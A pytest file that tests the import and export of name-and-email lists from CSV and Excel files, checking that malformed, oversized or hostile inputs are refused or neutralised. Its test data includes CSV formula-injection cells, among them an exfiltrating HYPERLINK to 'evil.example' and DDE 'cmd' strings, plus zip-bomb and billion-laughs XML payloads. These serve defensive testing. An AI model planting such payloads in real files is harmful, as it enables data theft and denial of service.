"""Lists from files and into files: family G of bad inputs, each refused or made harmless. Functions on bytes only."""

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from tests.site.factories import NOON

from weft.errors import RuleBroken
from weft_site.federation import sheets
from weft_site.federation.sheets import Fault, Line, is_formula, read_sheet, safe, to_csv, to_workbook


def lines(content):
    return read_sheet(content.encode() if isinstance(content, str) else content).lines


def refusal(content):
    with pytest.raises(RuleBroken) as found:
        read_sheet(content)
    return found.value


# --- what is taken ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("start", [b"", b"\xef\xbb\xbf"])
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_the_usual_files(delimiter, start, end):
    rows = [["Name", "E-mail"], ["Ana Ruiz", "Ana@Example.org"], ["Ольга", ""]]
    text = end.join(delimiter.join(row) for row in rows)

    assert lines(start + text.encode()) == (Line(2, "Ana Ruiz", "ana@example.org"), Line(3, "Ольга", ""))


def test_first_and_last_names_in_columns_of_their_own():
    assert lines("Last name,Shift,First name\nRuiz,night,Ana\n") == (Line(2, "Ana Ruiz", ""),)


def test_empty_rows_are_skipped_and_lines_keep_their_numbers():
    assert lines("\nname\n\nAna\n,,\n\nBo\n") == (Line(4, "Ana", ""), Line(7, "Bo", ""))


def test_a_name_over_two_lines_is_refused_by_its_first_line():
    found = read_sheet(b'name\n"Ana\nRuiz"\nBo\n')

    assert (found.lines, found.faults) == ((Line(4, "Bo", ""),), (Fault(2, "import.name", "Ana Ruiz"),))


@pytest.mark.parametrize(
    "name", ["Müller", "Ольга", "O'Brien", "Pelé", "N", "李小龙", "a" * 200, "Nguyễn Thị Minh Khai"]
)
def test_real_names_are_never_refused(name):
    assert lines(f"name\n{name}\n") == (Line(2, name, ""),)


def test_html_is_text():
    name = "<script>alert(1)</script>"

    assert lines(f"name\n{name}\n") == (Line(2, name, ""),)


def test_workbooks_are_read_by_their_values():
    book = Workbook()
    book.active.append(["Name", "Email", "Shift"])
    book.active.append(["Ana Ruiz", "ana@example.org", 3])
    book.active.append([None, None, None])
    book.active.append(["Bo", None, None])

    assert lines(saved(book)) == (Line(2, "Ana Ruiz", "ana@example.org"), Line(4, "Bo", ""))


def saved(book):
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


# --- what is refused as a whole -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", RuleBroken("import.empty")),
        (b"  \n\n", RuleBroken("import.empty")),
        (b"name,email\n", RuleBroken("import.empty")),
        ("name\nMüller\n".encode("latin-1"), RuleBroken("import.encoding", line=2)),
        ("name\nAna\n".encode("utf-16"), RuleBroken("import.encoding", line=1)),
        ("name\nAna\n".encode("utf-16-le"), RuleBroken("import.nul", line=1)),
        (b"name\nA\xc0\xafna\n", RuleBroken("import.encoding", line=2)),
        (b"name\nAna\nB\x00o\n", RuleBroken("import.nul", line=3)),
        (b'name\nAna\n"Bo\nCleo\n', RuleBroken("import.csv", line=3)),
        (b'name\n"Ana"x\n', RuleBroken("import.csv", line=2)),
        (b"colour,shape\nred,round\n", RuleBroken("import.header")),
        (b"Ana Ruiz,ana@example.org\nBo,bo@example.org\n", RuleBroken("import.header")),
        (b"name" + b"," * 50 + b"\n", RuleBroken("import.columns", line=1, most=50)),
        (b"name\nAna" + b"," * 60 + b"\n", RuleBroken("import.columns", line=2, most=50)),
        (b"\xd0\xcf\x11\xe0 an old workbook", RuleBroken("import.old_workbook")),
        (b"PK\x03\x04 not an archive", RuleBroken("import.workbook")),
        (b"MZ\x90 a program", RuleBroken("import.encoding", line=1)),
    ],
)
def test_files_that_are_no_list(content, expected):
    assert refusal(content) == expected


def test_eleven_megabytes_are_too_many():
    assert refusal(b"name\n" + b"Ana\n" * (11 * 1024 * 256)) == RuleBroken("import.size", most=10)


@pytest.mark.one_database
def test_a_million_rows_are_too_many_and_a_hundred_thousand_are_not():
    assert refusal(b"name\n" + b"Ana R\n" * 1_000_000) == RuleBroken("import.rows", most=100_000)
    assert len(lines(b"name\n" + b"Ana R\n" * 100_000)) == 100_000


def test_a_field_without_end_is_refused():
    assert refusal(b'name\n"' + b"a" * 200_000) == RuleBroken("import.csv", line=2)


# --- rows that are left out ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1",
        "\uff1d1+1", "\uff0b1+1", "\uff0d1", "\uff20SUM(A1)", ";=1+1", '"=1+1', "|cmd", "%0A=1+1", "cmd|' /C calc'!A0",
        "'=1+1",
        '=HYPERLINK("https://evil.example/?"&A1)', "\u200b=1+1", "\u202e=1+1", "=cmd|' /C calc'!A0",
    ],
)  # fmt: skip
def test_formulas_go_neither_in_nor_out(cell):
    out = io.StringIO()
    csv.writer(out).writerows([["name"], ["Ana"], [cell]])
    found = read_sheet(out.getvalue().encode())
    assert (found.lines, [fault.number for fault in found.faults]) == ((Line(2, "Ana", ""),), [3])

    harmless = safe(cell)
    assert harmless.startswith("'")
    assert not {"\n", "\r", "\t"} & set(harmless)


@pytest.mark.parametrize("text", ["Ana", "O'Brien", "Ольга", "a=b", "1-2", "", "ana@example.org"])
def test_what_is_no_formula_stays_as_it_is(text):
    assert (is_formula(text), safe(text)) == (False, text)


@pytest.mark.parametrize(
    ("name", "email", "rule"),
    [
        ("", "ana@example.org", "import.name"),
        ("   ", "ana@example.org", "import.name"),
        ("Ana\u202eziuR", "", "import.name"),
        ("A\u200bna", "", "import.name"),
        ("A\x07na", "", "import.name"),
        ("🙂", "", "import.name"),
        ("a" * 201, "", "import.name"),
        ("a" * 2_001, "", "import.long"),
        ("Z" + "\u0301" * 60, "", "import.name"),
        ("Ana", "no address", "import.email"),
        ("Ana", "\u0430na@example.org", "import.email"),
        ("Ana", "a@b@c", "import.email"),
    ],
)
def test_rows_with_what_no_name_or_address_has(name, email, rule):
    found = read_sheet(f'name,email\n"{name}","{email}"\nBo,\n'.encode())

    assert (found.lines, [(f.number, f.rule) for f in found.faults]) == ((Line(3, "Bo", ""),), [(2, rule)])


def test_one_address_twice_is_one_person_and_one_name_twice_may_be_two():
    found = read_sheet(
        "name,email\nAna Ruiz,ana@example.org\nAna R.,ANA@example.org\nANA  ruiz,\n\u0410n\u0430 Ruiz,\n".encode()
    )

    assert [line.number for line in found.lines] == [2, 4, 5]
    assert found.faults == (Fault(3, "import.twice", "2"),)
    assert found.warnings == (Fault(4, "import.alike", "2"), Fault(5, "import.alike", "2"))


def test_what_is_shown_of_a_refused_cell_is_short_and_visible():
    assert sheets.shown("=" + "x\u202e\n" * 100) == ("=" + "x  " * 100)[:60]


# --- workbooks that are weapons -----------------------------------------------------------------------------------


def archive(*parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts:
            made.writestr(name, content)
    return out.getvalue()


WORKBOOK = ("xl/workbook.xml", "<workbook/>")


@pytest.mark.parametrize(
    "parts",
    [
        [WORKBOOK, ("xl/worksheets/sheet1.xml", b"0" * 20_000_000)],
        [WORKBOOK, *((f"xl/{n}.xml", "x") for n in range(200))],
        [WORKBOOK, ("inner.zip", archive(("a", "b")))],
    ],
    ids=["ratio", "entries", "nested"],
)
def test_bombs_are_not_opened(parts):
    assert refusal(archive(*parts)) == RuleBroken("import.bomb")


def test_an_archive_that_is_no_workbook():
    assert refusal(archive(("readme.txt", "hello"))) == RuleBroken("import.workbook")


def test_entities_that_explode_are_refused():
    laughs = '<!DOCTYPE w [<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghi", strict=True)
    )
    book = Workbook()
    book.active.append(["name"])
    source = zipfile.ZipFile(io.BytesIO(saved(book)))
    parts = [(item, source.read(item)) for item in source.namelist() if item != "xl/workbook.xml"]
    made = archive(*parts, ("xl/workbook.xml", f"{laughs}]><workbook>&i;</workbook>"))

    assert refusal(made) == RuleBroken("import.workbook")


def test_formulas_in_a_workbook_are_refused_whatever_they_last_gave():
    book = Workbook()
    book.active.append(["name"])
    book.active.append(["=1+1"])
    book.active.append(["Bo"])

    found = read_sheet(saved(book))

    assert (found.lines, [(f.number, f.rule) for f in found.faults]) == ((Line(3, "Bo", ""),), [(2, "import.formula")])


# --- out ----------------------------------------------------------------------------------------------------------


def test_csv_out_has_no_dangerous_cell_and_says_it_is_utf8():
    text = to_csv(["Name"], [["=1+1"], ["Ana\nRuiz"]], [["Hash", "abc"]])

    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")))) == [
        ["Name"],
        ["'=1+1"],
        ["Ana Ruiz"],
        [],
        ["Hash", "abc"],
    ]


def test_every_cell_of_a_workbook_out_is_text():
    content = to_workbook("Depot/Nord [1]", ["Name"], [["=1+1"], ["Ana"]], [["Hash", "abc"]], NOON)

    sheet = load_workbook(io.BytesIO(content)).active
    assert [[cell.value for cell in row if cell.value] for row in sheet] == [
        ["Name"],
        ["'=1+1"],
        ["Ana"],
        [],
        ["Hash", "abc"],
    ]
    assert {cell.data_type for row in sheet for cell in row if cell.value} == {"s"}
